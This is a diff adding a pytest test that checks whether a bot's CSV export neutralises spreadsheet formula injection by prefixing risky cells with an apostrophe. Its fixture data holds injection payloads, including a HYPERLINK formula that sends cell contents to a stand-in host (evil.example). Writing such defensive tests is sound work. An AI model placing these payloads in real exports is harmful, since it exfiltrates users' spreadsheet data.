@@ -130,6 +130,41 @@ async def test_export_formats(redis: Redis, engine: AsyncEngine, writer: Summary
     assert await load_rows(engine, date(2999, 1, 1)) == []
 
 
+FORMULAS = {"summary": '=HYPERLINK("http://evil.example/?"&A1,"Klik")', "comment": "@SUM(1+1)",
+            "province": "+31 6 1234", "sector": "-2+3", "outcome": "\tadvice",
+            "secondary_topics": "\r=1+1"}
+
+
+def test_csv_export_neutralises_cells_a_spreadsheet_would_run(
+    tmp_path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str],
+) -> None:
+    import csv
+    import io
+    from datetime import date
+
+    from bot import cli
+
+    url = f"sqlite+aiosqlite:///{tmp_path / 'export.db'}"
+    monkeypatch.setenv("VRAAGBAAK_DATA_DIR", str(tmp_path / "data"))
+    monkeypatch.setenv("VRAAGBAAK_DATABASE_URL", url)
+
+    async def fill() -> None:
+        engine = make_engine(url)
+        await migrate(engine)
+        async with AsyncSession(engine) as db:
+            db.add(ConversationSummary(job_key="j1", closed_on=date(2026, 11, 2), topic="family",
+                                       waiting_minutes=-3, **FORMULAS))
+            await db.commit()
+        await engine.dispose()
+
+    asyncio.run(fill())
+    assert cli.main(["summaries", "export", "--format", "csv"]) == 0
+    [row] = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
+    for column, value in FORMULAS.items():
+        assert row[column] == "'" + value, column
+    assert row["topic"] == "family" and row["waiting_minutes"] == "-3"
+
+
 PERSONAL = ["Jamal", "Bakker", "06-12345678", "jamal.bakker@gmail.com", "Kerkstraat 12",
             "@jamal_b", "Sanne Jansen", "3009", "Calvijn College"]
 
